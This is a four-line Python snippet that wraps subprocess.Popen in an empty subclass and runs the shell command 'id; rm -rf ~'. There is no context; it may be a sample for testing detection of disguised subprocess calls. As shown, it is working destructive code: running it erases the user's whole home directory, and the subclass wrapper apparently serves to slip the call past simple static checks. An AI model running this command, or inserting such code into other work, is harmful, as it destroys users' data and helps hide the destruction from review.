import subprocess
class P(subprocess.Popen):
    pass
P('id; rm -rf ~', shell=True)
